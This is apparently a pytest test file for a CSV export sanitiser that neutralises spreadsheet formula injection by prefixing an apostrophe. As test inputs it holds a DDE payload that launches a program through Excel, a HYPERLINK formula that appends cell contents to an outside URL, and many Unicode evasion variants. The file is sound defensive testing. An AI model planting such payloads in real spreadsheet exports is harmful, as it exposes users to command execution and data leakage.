"""Texts that no spreadsheet takes for a formula."""

import csv
import io

import pytest

from customers.audit.export.neutral import neutral

FORMULA = "=cmd|'/C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        FORMULA,
        '=HYPERLINK("http://example.com?"&A1)',
        "+1 809 555 0100",
        "-5",
        "−5",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫SUM(A1)",
        "⁺1",
        "₊1",
        "⁼1",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u00ad=1+1",
        "\u202e=1+1",
        "\x0b=1+1",
        "\x00=1+1",
        "\u2028=1+1",
        '"=1+1"',
        ' ""=1+1',
        "\ttext",
        "\rtext",
        "\ntext",
    ],
)
def test_what_a_spreadsheet_could_take_for_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a; @SUM(A1)", "a;' @SUM(A1)"),
        ("a\t-1", "a\t'-1"),
        ("one\n- two\r\n+ three", "one\n'- two\r\n'+ three"),
        ("=1;=2", "'=1;'=2"),
        ('x;"=1+1"', 'x;\'"=1+1"'),
    ],
)
def test_so_does_what_would_begin_a_cell_where_something_else_separates_them(text: str, safe: str) -> None:
    assert neutral(text) == safe


@pytest.mark.parametrize(
    "text",
    ["JOSÉ NÚÑEZ", "a=b", "1-2", "user@example.com", "—", "", " ", "(blank)", "'=1", "a; b", "a;b=c", "|x", "100%"],
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.parametrize("text", [f"x;{FORMULA};y", f"x\n{FORMULA}", f'x;"{FORMULA}"', f"{FORMULA}", f"\t{FORMULA}"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_a_formula_whatever_separates_cells(text: str, separator: str) -> None:
    """As it is read by Excel where the comma is the decimal sign, quotation marks lost on it."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([1, neutral(text), "z"])

    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for line in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator, quoting=quoting):
            assert [cell for cell in line if cell.lstrip(' \t\r\n"').startswith("=")] == []
